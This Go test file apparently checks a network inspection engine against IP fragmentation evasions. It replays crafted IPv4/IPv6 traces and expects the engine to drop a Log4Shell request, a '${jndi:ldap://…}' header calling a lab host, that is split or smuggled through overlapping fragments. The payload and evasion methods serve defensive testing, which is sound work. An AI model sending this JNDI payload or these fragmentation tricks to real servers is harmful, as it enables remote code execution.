package replay

import (
	"bytes"
	"errors"
	"io"
	"path/filepath"
	"testing"

	"github.com/openutm/utm/dataplane/capture"
	"github.com/openutm/utm/dataplane/engine"
	"github.com/openutm/utm/dataplane/internal/testpcap"
	"github.com/openutm/utm/signatures/bundle"
)

// Fragmentation evasions (testdata/frag-*.pcap, written with -update): the
// engine must inspect the reassembled datagram, and drop what a receiver
// could reassemble differently from what was inspected.

const fragLog4Shell = "GET /search?q=1 HTTP/1.1\r\nHost: www.lab.test\r\nX-Api-Version: ${jndi:ldap://198.18.2.66/" + canary + "}\r\nAccept: */*\r\n\r\n"

// fragBenign has the same length as fragLog4Shell, with a benign value
// where the exploit is.
var fragBenign = func() string {
	s := []byte(fragLog4Shell)
	i := bytes.Index(s, []byte("${jndi"))
	j := bytes.IndexByte(s[i:], '}') + i + 1
	copy(s[i:j], bytes.Repeat([]byte{'v'}, j-i))
	return string(s)
}()

// dataPacket is the index of the first client data packet of a trace that
// starts with a handshake.
const dataPacket = 3

var fragCases = []struct {
	name     string
	build    func(t *testpcap.Trace)
	verdicts string // per packet: a accept, d drop
	counters map[string]uint64
}{
	{
		// The request in 48-byte IPv4 fragments, sent in reverse order:
		// the exploit string is split across fragments. The completing
		// fragment is dropped, the rest of the flow too.
		name: "frag-log4shell-ipv4",
		build: func(t *testpcap.Trace) {
			c := t.NewTCP("198.18.1.2:40101", "198.18.2.2:80").Handshake()
			c.Client([]byte(fragLog4Shell), 0)
			t.FragmentAt(dataPacket, 0x5151, 48, reverse(len(testpcap.Fragments(t.Packets[dataPacket].Data, 0, 48))))
			c.Server(httpResponse([]byte("never sent"), ""), 0)
		},
		verdicts: "aaa" + "aa" + "d" + "ddd",
		counters: map[string]uint64{"fragments": 3, "reassembled": 1, "frag_conflicts": 0},
	},
	{
		name: "frag-log4shell-ipv6",
		build: func(t *testpcap.Trace) {
			c := t.NewTCP("[2001:2:1::2]:40102", "[2001:2:2::2]:80").Handshake()
			c.Client([]byte(fragLog4Shell), 0)
			t.FragmentAt(dataPacket, 0x6161, 48, nil)
			c.Server(httpResponse([]byte("never sent"), ""), 0)
		},
		verdicts: "aaa" + "aa" + "d" + "ddd",
		counters: map[string]uint64{"fragments": 3, "reassembled": 1},
	},
	{
		// A benign request whose fragments are followed by an overlapping
		// copy that rewrites the bytes into the exploit: a receiver that
		// prefers the last copy would get it. The conflicting fragment is
		// dropped and counted, the datagram discarded (its last fragment
		// dropped too), so nothing reaches the server and no request is
		// parsed. eve.json stays empty: no request was ever whole.
		name: "frag-overlap-conflict",
		build: func(t *testpcap.Trace) {
			c := t.NewTCP("198.18.1.2:40103", "198.18.2.2:80").Handshake()
			c.Client([]byte(fragBenign), 0)
			benign := t.Packets[dataPacket]
			evil := bytes.Replace(benign.Data, []byte(fragBenign[bytes.IndexByte([]byte(fragBenign), 'v'):][:40]), []byte(fragLog4Shell[bytes.Index([]byte(fragLog4Shell), []byte("${jndi")):][:40]), 1)
			ihl := int(benign.Data[0]&0x0f) * 4
			at := (bytes.Index(benign.Data, []byte("vvvv")) - ihl) &^ 7
			fs := []testpcap.Packet{
				{TS: benign.TS, Data: testpcap.Frag4(benign.Data, 0x7171, 0, at, true)},
				{TS: benign.TS.Add(100e3), Data: testpcap.Frag4(benign.Data, 0x7171, at, 48, true)},
				{TS: benign.TS.Add(200e3), Data: testpcap.Frag4(evil, 0x7171, at, 48, true)},
				{TS: benign.TS.Add(300e3), Data: testpcap.Frag4(benign.Data, 0x7171, at+48, 1500, false)},
			}
			t.Packets = append(t.Packets[:dataPacket], append(fs, t.Packets[dataPacket+1:]...)...)
		},
		verdicts: "aaa" + "aa" + "dd" + "a",
		counters: map[string]uint64{"fragments": 4, "reassembled": 0, "frag_conflicts": 1, "frag_overlaps": 1, "frag_drop_bad": 1, "http_requests": 0},
	},
}

// packetVerdicts replays pcap through a fresh engine and returns each
// packet's verdict: a accept, d drop.
func packetVerdicts(t *testing.T, pcap string, b *bundle.Bundle) []byte {
	t.Helper()
	r, err := capture.Open(pcap)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	eng := engine.New(engine.Config{}, b)
	var out []byte
	for {
		ts, pkt, err := r.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		switch eng.Process(ts, pkt) {
		case engine.Accept, engine.Bypass:
			out = append(out, 'a')
		default:
			out = append(out, 'd')
		}
	}
}

func reverse(n int) []int {
	var o []int
	for i := n - 1; i >= 0; i-- {
		o = append(o, i)
	}
	return o
}

func TestGoldenFrag(t *testing.T) {
	b, err := bundle.Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range fragCases {
		t.Run(c.name, func(t *testing.T) {
			pcap := filepath.Join("testdata", c.name+".pcap")
			golden := filepath.Join("testdata", c.name+".golden.json")
			got, res, eng := replayTrace(t, b, pcap, testpcap.Ethernet, c.build)
			verdicts := packetVerdicts(t, pcap, b)
			if d := uint64(bytes.Count(verdicts, []byte("d"))); res.Dropped != d || res.Packets != uint64(len(verdicts)) {
				t.Errorf("replay result %+v disagrees with the verdicts %q", res, verdicts)
			}
			if string(verdicts) != c.verdicts {
				t.Errorf("verdicts per packet %q, want %q (a accept, d drop)", verdicts, c.verdicts)
			}
			cs := eng.Counters()
			for k, want := range c.counters {
				if cs[k] != want {
					t.Errorf("counter %s = %d, want %d", k, cs[k], want)
				}
			}
			compareGolden(t, golden, got)
		})
	}
}
